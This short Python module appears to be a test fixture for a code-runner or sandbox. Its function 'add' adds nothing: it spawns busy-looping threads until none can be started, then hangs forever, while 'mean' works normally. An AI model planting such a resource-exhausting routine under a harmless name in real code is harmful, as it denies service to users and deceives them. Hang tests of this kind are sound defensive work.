"""Starts threads that spin until no more can be started, then waits forever."""
import threading


def _spin():
    while True:
        pass


def add(a, b):
    while True:
        try:
            threading.Thread(target=_spin, daemon=True).start()
        except BaseException:
            break
    threading.Event().wait()


def mean(xs):
    if not xs:
        raise ValueError("mean of nothing")
    return sum(xs) / len(xs)
